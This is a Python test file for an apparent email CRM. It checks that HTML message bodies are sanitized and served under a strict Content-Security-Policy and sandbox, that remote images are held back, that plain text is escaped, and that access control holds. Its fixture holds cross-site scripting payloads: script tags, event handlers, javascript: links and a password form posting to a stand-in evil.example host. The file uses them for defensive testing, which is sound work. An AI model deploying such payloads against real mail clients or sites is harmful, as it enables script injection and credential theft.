"""An email's body as its own document: sanitized, sandboxed, remote images held back."""

from __future__ import annotations

import datetime as dt

from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from inboxcrm.accounts.models import Member
from inboxcrm.mail.models import Message
from tests.factories import MailboxFactory, MemberFactory, MessageFactory, ThreadFactory
from tests.support.web import sign_in

T0 = dt.datetime(2026, 11, 2, 9, 0, tzinfo=dt.UTC)
HOSTILE = """
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><style>body{background:url(https://evil.example/css)}</style>
<script>window.top.document.title = "pwned"</script></head>
<body onload="alert(1)">
<p>Quarterly numbers attached.</p>
<img src="https://tracker.example/pixel.gif" alt="logo">
<img src="x" onerror="alert(2)">
<a href="javascript:alert(3)">click</a>
<a href="https://docs.example/q3">report</a>
<svg onload="alert(4)"><circle r="4"/></svg>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe>
<div style="width: expression(alert(5)); color: red">styled</div>
<object data="https://evil.example/x.swf"></object>
</body></html>
"""


def body_of(session: Session, owner: Member, **kw: object) -> Message:
    thread = ThreadFactory(mailbox=MailboxFactory(member=owner), subject="Numbers")
    return MessageFactory(thread=thread, at=T0, **kw)


def test_html_is_sanitized_and_served_under_its_own_strict_policy(
    client: FlaskClient, session: Session
) -> None:
    rep = MemberFactory()
    message = body_of(session, rep, html=HOSTILE, text=None)
    sign_in(client, rep)
    response = client.get(f"/messages/{message.id}/body")
    assert response.status_code == 200
    assert response.mimetype == "text/html"
    html = response.text.lower()
    assert "quarterly numbers attached." in html
    for bad in (
        "<script", "onload", "onerror", "javascript:", "http-equiv", "<form", "<input", "<svg",
        "<iframe", "<object", "<base", "expression(", "evil.example", " src=\"https://tracker",
    ):  # fmt: skip
        assert bad not in html, bad
    assert 'data-remote-src="https://tracker.example/pixel.gif"' in html  # held back
    assert 'href="https://docs.example/q3"' in html
    policy = response.headers["Content-Security-Policy"]
    directives = {d.split()[0]: d.split()[1:] for d in policy.split("; ")}
    assert directives["default-src"] == ["'none'"]
    assert directives["img-src"] == ["data:", "cid:"]
    assert directives["style-src"] == ["'unsafe-inline'"]
    assert "script-src" not in directives
    assert "sandbox" in directives
    # Same origin so the lead page can fit the frame to the body; safe only because nothing
    # in it runs: never allow-scripts (nor forms, nor top navigation) beside it.
    assert not {"allow-scripts", "allow-forms", "allow-top-navigation"} & set(directives["sandbox"])
    assert "allow-same-origin" in directives["sandbox"]
    assert directives["frame-ancestors"] == ["'self'"]
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert response.headers["Referrer-Policy"] == "no-referrer"
    assert "no-store" in response.headers["Cache-Control"]


def test_remote_images_load_only_when_asked(client: FlaskClient, session: Session) -> None:
    rep = MemberFactory()
    message = body_of(session, rep, html='<p>Hi</p><img src="https://cdn.example/a.png">')
    sign_in(client, rep)
    response = client.get(f"/messages/{message.id}/body?images=1")
    assert '<img src="https://cdn.example/a.png"' in response.text
    assert "img-src data: cid: https:;" in response.headers["Content-Security-Policy"]


def test_a_plain_text_body_is_shown_escaped(client: FlaskClient, session: Session) -> None:
    rep = MemberFactory()
    message = body_of(session, rep, text='<script>alert("x")</script>\nBest, Zoe', html=None)
    sign_in(client, rep)
    response = client.get(f"/messages/{message.id}/body")
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in response.text
    assert "<script>" not in response.text
    assert "Best, Zoe" in response.text


def test_a_body_needs_a_signed_in_member_of_the_workspace(
    client: FlaskClient, session: Session
) -> None:
    message = body_of(session, MemberFactory(), html="<p>private words</p>")
    response = client.get(f"/messages/{message.id}/body")
    assert response.status_code == 302
    assert response.location.startswith("/signin")
    sign_in(client, MemberFactory())
    for path in (f"/messages/{message.id}/body", "/messages/999999/body"):
        response = client.get(path)
        assert response.status_code == 404
        assert "private words" not in response.text
